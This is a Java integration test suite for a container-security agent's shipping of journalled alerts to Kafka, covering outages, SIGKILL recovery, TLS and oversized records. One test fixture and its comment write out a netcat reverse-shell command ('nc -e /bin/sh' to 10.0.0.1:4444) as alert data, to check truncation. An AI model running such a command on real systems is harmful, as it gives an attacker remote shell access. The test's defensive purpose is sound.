package dev.dockward.agent.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.dockward.agent.cli.DockwardCli;
import dev.dockward.agent.config.AgentConfig;
import dev.dockward.agent.journal.ChronicleJournal;
import dev.dockward.agent.journal.JournalCursor;
import dev.dockward.agent.journal.JournalRecord;
import dev.dockward.agent.journal.RecordBounds;
import dev.dockward.agent.ship.FileCheckpoint;
import dev.dockward.agent.ship.KafkaSink;
import dev.dockward.agent.ship.Shipper;
import dev.dockward.agent.ship.ShipperSettings;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Shipping from a real Chronicle journal to a real Kafka broker (KRaft, own JVM, 127.0.0.1):
 * everything journalled arrives, through a broker outage and through a SIGKILL of the shipper. Each
 * test uses its own topic on one broker.
 */
@Tag("integration")
class KafkaShippingIT {
  private static final Duration DEADLINE = Duration.ofSeconds(240);
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern ID = Pattern.compile("\"id\":\"(it-[0-9]+)\"");

  @TempDir static Path brokerDir;
  private static KafkaBroker broker;

  @TempDir Path dir;
  private final List<AutoCloseable> cleanup = new ArrayList<>();

  @BeforeAll
  static void startBroker() throws Exception {
    long t0 = System.nanoTime();
    broker = KafkaBroker.start(brokerDir.resolve("broker"), TestCa.create(brokerDir.resolve("ca")));
    System.out.printf(
        "KafkaShippingIT: broker pid %d ready on %s in %d ms%n",
        broker.pid(),
        broker.bootstrapServers(),
        TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0));
  }

  @AfterAll
  static void stopBroker() throws Exception {
    if (broker != null) {
      broker.close();
    }
  }

  @AfterEach
  void closeAll() throws Exception {
    for (int i = cleanup.size() - 1; i >= 0; i--) {
      cleanup.get(i).close();
    }
    // The next test needs a broker even when this one killed it and failed before restarting it.
    broker.ensureRunning();
  }

  /** A ~300-byte alert like the agent's, with a distinctive id per number. */
  static String record(int n) {
    return String.format(
        "{\"schema\":1,\"kind\":\"alert\",\"id\":\"it-%d\",\"time\":\"2026-11-23T05:00:00.000Z\","
            + "\"host\":{\"name\":\"it-host\",\"id\":\"4f1c9e\"},\"rule\":\"it_rule\",\"severity\":\"high\","
            + "\"tags\":[\"mitre.T1611\"],\"summary\":\"process sh (pid %d) of container web runs in the host mount "
            + "namespace\",\"container\":{\"id\":\"c%02d\",\"name\":\"web\",\"image\":\"nginx:1.25\"}}",
        n, n, n % 7);
  }

  private static List<String> ids(int from, int to) {
    List<String> ids = new ArrayList<>(to - from + 1);
    for (int i = from; i <= to; i++) {
      ids.add("it-" + i);
    }
    return ids;
  }

  private <T extends AutoCloseable> T closing(T c) {
    cleanup.add(c);
    return c;
  }

  private AgentConfig.Kafka kafka(String topic, Map<String, String> properties) {
    return new AgentConfig.Kafka(
        true,
        broker.bootstrapServers(),
        new AgentConfig.Topics(topic, topic + ".events"),
        false,
        properties);
  }

  private Shipper kafkaShipper(
      ChronicleJournal journal, AgentConfig.Kafka kafka, ShipperSettings settings)
      throws InterruptedException {
    Shipper s =
        new Shipper(
            journal,
            KafkaSink.create(kafka),
            FileCheckpoint.forSink(journal.dir(), KafkaSink.NAME),
            settings);
    s.start();
    return s;
  }

  @Test
  void everyOneOfAHundredThousandJournalledRecordsArrives() throws Exception {
    String topic = "it.bulk.alerts";
    broker.createTopics(topic);
    int n = 100_000;
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    long last = 0;
    for (int i = 1; i <= n; i++) {
      last = journal.append(record(i));
    }
    long lastIndex = last;
    long t0 = System.nanoTime();
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                kafka(topic, Map.of()),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
    Await.until(
        () -> shipper.committed().equals(OptionalLong.of(lastIndex)),
        DEADLINE,
        () -> "committed " + shipper.committed() + ", shipped " + shipper.shipped());
    long millis = Math.max(1, TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0));
    System.out.printf(
        "KafkaShippingIT: %d records acknowledged by the broker in %d ms (%d records/s)%n",
        n, millis, n * 1000L / millis);

    TopicReader reader = closing(new TopicReader(broker, topic));
    reader.awaitAll(ids(1, n), DEADLINE);
    assertEquals(n, reader.ids().size());
    assertEquals(0, shipper.failures());

    ConsumerRecord<String, String> r = reader.first();
    Matcher m = ID.matcher(r.value());
    assertTrue(m.find(), r.value());
    int number = Integer.parseInt(m.group(1).substring(3));
    assertEquals(record(number), r.value(), "the journalled text, unchanged");
    assertEquals(String.format("c%02d", number % 7), r.key(), "keyed by container id");
    assertEquals(
        "it_rule", new String(r.headers().lastHeader("rule").value(), StandardCharsets.UTF_8));
    assertEquals(
        OptionalLong.of(lastIndex),
        FileCheckpoint.forSink(journal.dir(), KafkaSink.NAME).load(),
        "the checkpoint file holds the last index once all are acknowledged");
  }

  @Test
  void recordsJournalledWhileTheBrokerIsDownArriveAfterItReturnsEvenWhenSendsExpired()
      throws Exception {
    String topic = "it.outage.alerts";
    broker.createTopics(topic);
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    // Short timeouts so that sends expire during the outage: expired means "not shipped", re-sent
    // later.
    Map<String, String> fastExpiry =
        Map.of(
            "delivery.timeout.ms",
            "4000",
            "request.timeout.ms",
            "2000",
            "reconnect.backoff.max.ms",
            "500",
            "max.block.ms",
            "3000");
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                kafka(topic, fastExpiry),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)
                    .withMaxBackoff(Duration.ofSeconds(2))));
    TopicReader reader = closing(new TopicReader(broker, topic));

    for (int i = 1; i <= 5_000; i++) {
      journal.append(record(i));
    }
    reader.awaitAll(ids(1, 5_000), DEADLINE);

    long killedPid = broker.pid();
    broker.kill();
    for (int i = 5_001; i <= 15_000; i++) {
      journal.append(record(i));
    }
    Await.until(
        () -> shipper.failures() > 0,
        DEADLINE,
        () -> "sends fail while the broker is down (shipped " + shipper.shipped() + ")");
    long failuresDuringOutage = shipper.failures();
    broker.start();
    for (int i = 15_001; i <= 20_000; i++) {
      journal.append(record(i));
    }
    reader.awaitAll(ids(1, 20_000), DEADLINE);
    System.out.printf(
        "KafkaShippingIT: outage (broker pid %d killed, restarted as %d): %d failed sends during it, "
            + "%d re-sends, %d duplicates read%n",
        killedPid, broker.pid(), failuresDuringOutage, shipper.resent(), reader.duplicates());
    assertTrue(shipper.resent() > 0, "failed sends were sent again");
  }

  @Test
  void aShipperStartedWhileKafkaIsDownBuffersInTheJournalAndDeliversWhenItComesUp()
      throws Exception {
    String topic = "it.late.alerts";
    broker.createTopics(topic);
    broker.kill();
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    for (int i = 1; i <= 2_000; i++) {
      journal.append(record(i));
    }
    // The producer has never seen the cluster: each send waits max.block.ms for metadata, then
    // fails.
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                kafka(topic, Map.of("max.block.ms", "2000")),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)
                    .withMaxBackoff(Duration.ofSeconds(2))));
    Await.until(() -> shipper.failures() >= 2, DEADLINE, () -> "sends fail while nothing listens");
    assertEquals(0, shipper.shipped());
    broker.start();
    TopicReader reader = closing(new TopicReader(broker, topic));
    reader.awaitAll(ids(1, 2_000), DEADLINE);
  }

  @Test
  void shipperKilledMidStreamResumesFromItsCheckpointAndLosesNothing() throws Exception {
    String topic = "it.kill.alerts";
    broker.createTopics(topic);
    Path journalDir = dir.resolve("journal");
    TopicReader reader = closing(new TopicReader(broker, topic));

    Child first = closing(new Child(journalDir, topic, 1, 60_000));
    first.awaitLine("started");
    reader.awaitAtLeast(5_000, DEADLINE);
    FileCheckpoint checkpoint = FileCheckpoint.forSink(journalDir, KafkaSink.NAME);
    Await.until(() -> checkpoint.load().isPresent(), DEADLINE, () -> "a first checkpoint");
    first.kill();
    long checkpointAtKill = checkpoint.load().orElseThrow();

    Child second = closing(new Child(journalDir, topic, 60_001, 65_000));
    second.awaitLine("journalled");
    second.stop();

    Map<String, Long> journalled = journalledIds(journalDir, "alert");
    assertTrue(
        journalled.keySet().containsAll(ids(60_001, 65_000)),
        "the second run journalled all it was given");
    reader.awaitAll(journalled.keySet(), DEADLINE);
    assertTrue(
        journalled.keySet().containsAll(reader.ids()), "nothing arrives that was not journalled");
    // The restart resumed after the checkpoint: what it covered was not sent a second time.
    List<String> committedBeforeKill =
        journalled.entrySet().stream()
            .filter(e -> e.getValue() <= checkpointAtKill)
            .map(Map.Entry::getKey)
            .toList();
    assertTrue(committedBeforeKill.size() >= 1, "the checkpoint covers records");
    assertEquals(
        List.of(),
        committedBeforeKill.stream().filter(id -> reader.count(id) != 1).limit(10).toList(),
        "records committed before the kill arrived exactly once");
    System.out.printf(
        "KafkaShippingIT: SIGKILL with %d of 60000 journalled by the first run, %d of them committed; "
            + "all %d journalled ids arrived, %d duplicates%n",
        journalled.size() - 5_000,
        committedBeforeKill.size(),
        journalled.size(),
        reader.duplicates());
  }

  @Test
  void shipsOverTlsWithTheCaFromThePassThroughPropertiesAndNotWithoutIt() throws Exception {
    String topic = "it.tls.alerts";
    String untrusted = "it.tls.untrusted.alerts";
    broker.createTopics(topic, untrusted);
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    for (int i = 1; i <= 1_000; i++) {
      journal.append(record(i));
    }
    Map<String, String> tls =
        Map.of(
            "security.protocol",
            "SSL",
            "ssl.truststore.type",
            "PKCS12",
            "ssl.truststore.location",
            brokerDir.resolve("ca").resolve("truststore.p12").toString(),
            "ssl.truststore.password",
            TestCa.PASSWORD);
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                new AgentConfig.Kafka(
                    true,
                    broker.sslBootstrapServers(),
                    new AgentConfig.Topics(topic, "e"),
                    false,
                    tls),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
    TopicReader reader = closing(new TopicReader(broker, topic));
    reader.awaitAll(ids(1, 1_000), DEADLINE);
    assertEquals(0, shipper.failures());

    // The same over TLS without the CA: the broker's certificate is not trusted, nothing is
    // delivered,
    // and the shipper keeps the records for later instead of dropping them.
    Path otherJournal = dir.resolve("journal-untrusted");
    ChronicleJournal journal2 = closing(ChronicleJournal.openForWriting(otherJournal, "hourly"));
    journal2.append(record(1));
    Shipper refused =
        closing(
            kafkaShipper(
                journal2,
                new AgentConfig.Kafka(
                    true,
                    broker.sslBootstrapServers(),
                    new AgentConfig.Topics(untrusted, "e"),
                    false,
                    Map.of("security.protocol", "SSL", "max.block.ms", "2000")),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
    Await.until(
        () -> refused.failures() > 0,
        DEADLINE,
        () -> "the untrusted broker refuses to be shipped to");
    assertEquals(0, refused.shipped());
    assertEquals(OptionalLong.empty(), refused.committed());
  }

  @Test
  void aRecordOverTheProducersMaxSizeIsRejectedCountedAndShippingGoesOn() throws Exception {
    String topic = "it.oversized.alerts";
    broker.createTopics(topic);
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    journal.append(record(1));
    // 2 MiB of summary: over the producer's max.request.size, here 1,500 bytes, even cut to the
    // shipper's smallest try (its 2 KiB floor).
    journal.append(record(2).replace("\"summary\":\"", "\"summary\":\"" + "x".repeat(2 << 20)));
    long last = journal.append(record(3));
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                kafka(topic, Map.of("max.request.size", "1500")),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
    Await.until(
        () -> shipper.committed().equals(OptionalLong.of(last)),
        DEADLINE,
        () -> "committed past the oversized record: " + shipper.committed());
    assertEquals(1, shipper.rejected());
    assertTrue(shipper.trimmed() > 0, "cut smaller before it was rejected");
    TopicReader reader = closing(new TopicReader(broker, topic));
    reader.awaitAll(List.of("it-1", "it-3"), DEADLINE);
    assertEquals(0, reader.count("it-2"));
  }

  @Test
  void theIssuesNetcatAlertArrivesCutToFitTheProducersDefaultMaxSize() throws Exception {
    String topic = "it.hostile.alerts";
    broker.createTopics(topic);
    // The alert an older agent journalled for exec -a "$(head -c 65000 /dev/zero | tr '\0' '\1')"
    // nc -e /bin/sh:
    // its command line in the process, the evidence and the summary, 6 bytes per character.
    String cmdline = "\\u0001".repeat(65_000) + " -e /bin/sh 10.0.0.1 4444";
    String hostile =
        record(2)
            .replace(
                "\"summary\":\"",
                "\"summary\":\"nc runs a program on a network connection: " + cmdline)
            .replace(
                "}}",
                "},\"process\":{\"pid\":4242,\"name\":\"nc\",\"cmdline\":\""
                    + cmdline
                    + "\"},\"evidence\":{\"cmdline\":\""
                    + cmdline
                    + "\"},\"event_id\":\"it-1\"}");
    ChronicleJournal journal =
        closing(ChronicleJournal.openForWriting(dir.resolve("journal"), "hourly"));
    journal.append(record(1));
    journal.append(hostile);
    long last = journal.append(record(3));
    Shipper shipper =
        closing(
            kafkaShipper(
                journal,
                kafka(topic, Map.of()),
                ShipperSettings.of(false, ShipperSettings.Start.JOURNAL_START)));
    Await.until(
        () -> shipper.committed().equals(OptionalLong.of(last)),
        DEADLINE,
        () -> "committed past the hostile record: " + shipper.committed());
    assertEquals(0, shipper.rejected());
    assertEquals(1, shipper.trimmed());
    TopicReader reader = closing(new TopicReader(broker, topic));
    reader.awaitAll(List.of("it-1", "it-2", "it-3"), DEADLINE);
    String arrived = reader.value("it-2");
    int before = hostile.getBytes(StandardCharsets.UTF_8).length;
    int after = arrived.getBytes(StandardCharsets.UTF_8).length;
    System.out.printf(
        "KafkaShippingIT: the hostile alert, %d bytes journalled, arrived as %d bytes%n",
        before, after);
    assertTrue(
        before > 1 << 20 && after <= RecordBounds.MAX_RECORD_BYTES / 2, before + " -> " + after);
    var marks = JSON.readTree(arrived).path("truncated");
    Map<String, Integer> lengths = new LinkedHashMap<>();
    marks.forEach(m -> lengths.put(m.path("path").asText(), m.path("length").asInt()));
    assertEquals(65_025, lengths.get("/process/cmdline"), lengths.toString());
    assertEquals(65_025, lengths.get("/evidence/cmdline"), lengths.toString());
    assertEquals(
        JSON.readTree(hostile).path("summary").asText().length(),
        lengths.get("/summary"),
        lengths.toString());
  }

  @Test
  void runWithKafkaShipsEveryJournalledEventOfTheAgent() throws Exception {
    broker.createTopics("dockward.alerts", "dockward.events");
    // The README's quick start plus one config key: events ship too. No Docker needed: the first
    // /proc scan journals every running process as an event.
    Path config =
        Files.writeString(
            dir.resolve("dockward.yaml"),
            "sources:\n  docker: {enabled: false}\nsinks:\n  kafka: {events: true}\n");
    Path journalDir = dir.resolve("journal");
    StringWriter err = new StringWriter();
    int code =
        DockwardCli.commandLine()
            .setErr(new PrintWriter(err))
            .execute(
                "run",
                "--config",
                config.toString(),
                "--journal",
                journalDir.toString(),
                "--kafka",
                broker.bootstrapServers(),
                "--duration",
                "3s");
    assertEquals(0, code, err.toString());

    Map<String, Long> journalled = journalledIds(journalDir, "event");
    assertTrue(
        journalled.size() > 10,
        "the /proc scan journalled the host's processes: " + journalled.size());
    TopicReader reader = closing(new TopicReader(broker, "dockward.events"));
    reader.awaitAll(journalled.keySet(), DEADLINE);
    assertEquals(
        journalled.keySet(), reader.ids(), "the events topic holds the journal's events, no more");
    // A rule may fire on what runs on the host during the run: its alerts go to the alerts topic.
    Map<String, Long> alerts = journalledIds(journalDir, "alert");
    TopicReader alertReader = closing(new TopicReader(broker, "dockward.alerts"));
    alertReader.awaitAll(alerts.keySet(), DEADLINE);
    assertTrue(
        FileCheckpoint.forSink(journalDir, KafkaSink.NAME).load().isPresent(),
        "the agent stored its checkpoint");
    System.out.printf(
        "KafkaShippingIT: dockward run --kafka shipped all %d journalled events%n",
        journalled.size());
  }

  /** Every id of a record of this kind in the journal, with its index. */
  private static Map<String, Long> journalledIds(Path journalDir, String kind) throws IOException {
    Map<String, Long> ids = new LinkedHashMap<>();
    try (ChronicleJournal j = ChronicleJournal.openForReading(journalDir);
        JournalCursor c = j.fromStart()) {
      Optional<JournalRecord> r;
      while ((r = c.next()).isPresent()) {
        var record = JSON.readTree(r.get().json());
        String id = record.path("id").asText();
        assertTrue(!id.isEmpty(), r.get().json());
        if (kind.equals(record.path("kind").asText())) {
          ids.put(id, r.get().index());
        }
      }
    }
    return ids;
  }

  /** {@link ShippingChild} in its own JVM, started by this test and killed only by it. */
  private final class Child implements AutoCloseable {
    private final Process process;
    private final LineCapture out = new LineCapture();

    Child(Path journalDir, String topic, int from, int to) throws IOException {
      List<String> cmd =
          new ArrayList<>(
              List.of(
                  Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                  "--add-opens=java.base/java.lang.reflect=ALL-UNNAMED",
                  "--add-opens=java.base/sun.nio.ch=ALL-UNNAMED",
                  "--add-exports=java.base/jdk.internal.ref=ALL-UNNAMED",
                  "-Dchronicle.analytics.disable=true",
                  "-Xmx256m",
                  "-cp",
                  System.getProperty("java.class.path"),
                  ShippingChild.class.getName(),
                  journalDir.toString(),
                  broker.bootstrapServers(),
                  topic,
                  Integer.toString(from),
                  Integer.toString(to)));
      process =
          new ProcessBuilder(cmd)
              .redirectError(ProcessBuilder.Redirect.appendTo(dir.resolve("child.err").toFile()))
              .start();
      Thread t =
          new Thread(
              () -> {
                try (BufferedReader r =
                    new BufferedReader(
                        new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8))) {
                  String line;
                  while ((line = r.readLine()) != null) {
                    out.stream().println(line);
                  }
                } catch (IOException e) {
                  // the child ended
                }
              });
      t.setDaemon(true);
      t.start();
    }

    void awaitLine(String prefix) {
      out.await(
          l -> l.startsWith(prefix),
          DEADLINE,
          "'" + prefix + "' from the shipping child (stderr in " + dir + "/child.err)");
    }

    /** SIGKILL: no shutdown hook, no final checkpoint, no producer flush. */
    void kill() throws InterruptedException {
      process.destroyForcibly();
      assertTrue(process.waitFor(60, TimeUnit.SECONDS), "the child died");
      assertEquals(137, process.exitValue(), "killed by SIGKILL");
    }

    /** Closing stdin asks the child to ship what remains and stop cleanly. */
    void stop() throws Exception {
      process.getOutputStream().close();
      assertTrue(process.waitFor(120, TimeUnit.SECONDS), "the child stopped");
      assertEquals(0, process.exitValue());
      awaitLine("closed");
    }

    @Override
    public void close() {
      if (process.isAlive()) {
        process.destroyForcibly();
        try {
          process.waitFor(30, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
          Thread.currentThread().interrupt();
        }
      }
    }
  }
}
